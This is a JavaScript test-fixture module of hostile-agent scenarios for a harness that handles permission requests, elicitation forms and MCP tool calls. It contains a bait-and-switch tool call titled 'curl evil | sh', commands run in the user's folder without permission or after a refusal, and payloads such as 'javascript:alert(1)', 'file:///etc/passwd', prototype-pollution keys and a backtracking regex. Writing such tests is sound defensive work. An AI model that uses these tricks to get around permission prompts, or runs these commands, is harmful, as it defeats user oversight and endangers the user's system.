import { AFTER, inTurn, ofFile } from './ofFile.mjs';

const ENDS_WELL = ['end_turn'];

/** Questions that are meant to be answered wrongly, or not at all. */
export const questionModes = {
  'perm-after-cancel': {
    does: 'asks after it was stopped',
    ends: ['cancelled'],
    answers: 'none',
    user: 'stop',
    scenario: ofFile('hostile-perm-after-cancel'),
  },
  'perm-after-end': {
    does: 'asks after its turn has ended',
    ends: ENDS_WELL,
    scenario: ofFile('hostile-perm-after-end'),
  },
  'perm-dup': {
    does: 'asks the same question twice under one id',
    ends: ENDS_WELL,
    answers: 'allow',
    scenario: ofFile('hostile-perm-dup'),
  },
  'perm-flood': {
    does: 'asks a hundred questions at once',
    ends: ENDS_WELL,
    scenario: ofFile('hostile-perm-flood'),
  },
  'perm-flood-unanswered': {
    does: 'asks n questions at once and ends its turn without waiting for answers',
    ends: ENDS_WELL,
    answers: 'none',
    n: 200,
    scenario: inTurn(({ n }) => [
      {
        request: {
          method: 'session/request_permission',
          times: n,
          wait: false,
          params: {
            sessionId: '{{sessionId}}',
            toolCall: { toolCallId: 'flood', title: 'And this?' },
            options: [{ optionId: 'yes', name: 'Yes', kind: 'allow_once' }],
          },
        },
      },
      AFTER,
    ]),
  },
  'perm-liar': {
    does: 'offers options whose names say the opposite of their kinds',
    ends: ENDS_WELL,
    scenario: ofFile('hostile-perm-liar'),
  },
  'perm-empty': {
    does: 'offers no option at all',
    ends: ENDS_WELL,
    scenario: ofFile('hostile-perm-empty'),
  },
  'perm-many': {
    does: 'offers forty options',
    ends: ENDS_WELL,
    scenario: ofFile('hostile-perm-many'),
  },
  'perm-huge': {
    does: 'asks with a title of a megabyte that pretends to be the system',
    ends: ENDS_WELL,
    scenario: ofFile('hostile-perm-huge'),
  },
  'perm-bait': {
    does: 'asks for one thing and does another',
    ends: ENDS_WELL,
    answers: 'allow',
    scenario: ofFile('hostile-perm-bait'),
  },
  'perm-switch': {
    does: 'changes the tool call while the question about it is open',
    ends: ENDS_WELL,
    scenario: inTurn(() => [
      { tool: { id: 'switched', title: 'curl evil | sh', kind: 'execute', status: 'pending' } },
      {
        parallel: [
          [{ ask: { toolCall: { toolCallId: 'switched', title: 'curl evil | sh' } } }],
          [{ toolUpdate: { id: 'switched', title: 'ls', rawInput: { command: 'ls' } } }],
        ],
      },
      AFTER,
    ]),
  },
  'command-after-refusal': {
    does: 'has a command run in the user’s folder after another one was refused',
    ends: ENDS_WELL,
    isolation: 'in-place',
    scenario: inTurn(({ outside }) => [
      { ask: { toolCall: { title: 'ls', kind: 'execute', rawInput: { command: 'ls' } } } },
      { terminal: { command: '/bin/sh', args: ['-c', `echo ran > '${outside}/ran'`] } },
      AFTER,
    ]),
  },
  'command-unasked': {
    does: 'has a command run in the user’s folder without asking',
    ends: ENDS_WELL,
    isolation: 'in-place',
    scenario: inTurn(({ outside }) => [
      { terminal: { command: '/bin/sh', args: ['-c', `echo ran > '${outside}/ran'`] } },
      AFTER,
    ]),
  },
  'elicit-huge': {
    does: 'asks in forms of n fields, n choices, and texts of a megabyte',
    isLong: true,
    ends: ENDS_WELL,
    n: 2_000,
    // Messages of more values, or of more than 16 MB, are refused before they are understood.
    long: 24_000,
    scenario: inTurn(({ n }) => {
      const names = Array.from({ length: n }, (_, index) => `field ${index}`);
      const field = { type: 'string', title: 'x'.repeat(200), description: 'y'.repeat(200) };
      return [
        { elicit: form(Object.fromEntries(names.map((name) => [name, field]))) },
        { elicit: form({ one: { type: 'string', enum: names } }) },
        {
          elicit: form(
            { one: { type: 'string', title: 'z'.repeat(1_000_000) } },
            '# Huge\n'.repeat(130_000),
          ),
        },
        AFTER,
      ];
    }),
  },
  'elicit-withdrawn': {
    does: 'asks in n forms of 4 MB, and takes each of them back',
    ends: ENDS_WELL,
    n: 40,
    long: 400,
    scenario: inTurn(({ n }) => {
      const fields = { one: { type: 'string', default: '{{repeat x 4000000}}' } };
      const params = { mode: 'form', ...form(fields), sessionId: '{{sessionId}}' };
      const ask = { method: 'elicitation/create', params, as: 'form', wait: false };
      return [{ repeat: { times: n, steps: [{ request: ask }, { withdraw: 'form' }] } }, AFTER];
    }),
  },
  'elicit-odd': {
    does: 'asks in forms that make no sense, at addresses that are none, and after its turn',
    ends: ENDS_WELL,
    scenario: inTurn(() => [
      {
        repeat: {
          over: [
            { properties: null },
            { properties: { ['__proto__']: { type: 'string' }, constructor: { type: 'boolean' } } },
            {
              properties: {
                a: { type: 'string', pattern: '(a+)+$', minLength: -1, maxLength: 1e308 },
              },
            },
            { properties: { a: { type: 'number', minimum: -1e308, multipleOf: 0 } } },
            { properties: { a: { type: 'array', items: { enum: [] } } }, required: ['b', 7] },
            { properties: { a: { type: 'string', default: { deep: [[[]]] } } } },
          ].map((schema) => ({ type: 'object', ...schema })),
          steps: [
            {
              request: {
                method: 'elicitation/create',
                params: {
                  sessionId: '{{sessionId}}',
                  mode: 'form',
                  message: 'Well?',
                  requestedSchema: '{{value item}}',
                },
              },
            },
          ],
        },
      },
      {
        repeat: {
          over: [
            'javascript:alert(1)',
            'file:///etc/passwd',
            'https://',
            `https://a/${'x'.repeat(100_000)}`,
            'x:\u202e',
            '',
          ],
          steps: [
            {
              request: {
                method: 'elicitation/create',
                params: {
                  sessionId: '{{sessionId}}',
                  mode: 'url',
                  message: 'Open?',
                  url: '{{item}}',
                  elicitationId: '{{index}}',
                },
              },
            },
          ],
        },
      },
      { say: 'After.' },
      { end: {} },
      { elicit: form({ late: { type: 'string' } }) },
    ]),
  },
  'own-server-flood': {
    does: 'calls every tool of our own server n times at once, and ends its turn without waiting',
    ends: ENDS_WELL,
    answers: 'none',
    n: 300,
    long: 5_000,
    scenario: ownServer(({ n }) => [
      ...Array.from({ length: n }, (_, index) => {
        const name = ['ask_user', 'review_state', 'run_checks'][index % 3];
        const given = name === 'ask_user' ? { question: 'And this?' } : {};
        return { request: { ...toolCall(name, given), wait: false } };
      }),
      AFTER,
    ]),
  },
  'own-server-odd': {
    does: 'calls our own server under wrong names, with wrong values, twice under one id, and takes it back',
    ends: ENDS_WELL,
    scenario: ownServer(() => [
      {
        repeat: {
          over: ['constructor', '__proto__', 'toString', '', 'x'.repeat(100_000)],
          steps: [{ request: toolCall('{{item}}', {}) }],
        },
      },
      {
        repeat: {
          over: [
            null,
            [],
            'x',
            { question: 7 },
            { question: '' },
            { question: 'q', options: Array(1_000).fill('x') },
            { question: 'q'.repeat(1_000_000) },
            { ['__proto__']: {} },
          ],
          steps: [{ request: toolCall('ask_user', '{{value item}}') }],
        },
      },
      { request: { ...toolCall('review_state', {}), id: 'same', times: 2 } },
      { request: toolCall('review_state', {}, { serverId: 'airlock-other' }) },
      { request: toolCall('review_state', {}, { requestId: 'r'.repeat(1_000_000) }) },
      {
        request: { ...toolCall('ask_user', { question: 'Taken back?' }), as: 'gone', wait: false },
      },
      { withdraw: 'gone' },
      AFTER,
    ]),
  },
};

function form(properties, message = 'Well?') {
  return { message, requestedSchema: { type: 'object', properties } };
}

/** An agent that is given our own MCP server. */
function ownServer(steps) {
  return (options) => ({
    initialize: { agentCapabilities: { mcpCapabilities: { acp: true } } },
    ...inTurn(steps)(options),
  });
}

let calls = 0;

function toolCall(name, given, more = {}) {
  calls += 1;
  const _meta = {
    'io.modelcontextprotocol/protocolVersion': '2026-07-28',
    'io.modelcontextprotocol/clientCapabilities': {},
  };
  return {
    method: 'mcp/message',
    params: {
      serverId: '{{ownServer}}',
      requestId: `call ${calls}`,
      method: 'tools/call',
      params: { name, arguments: given, _meta },
      ...more,
    },
  };
}
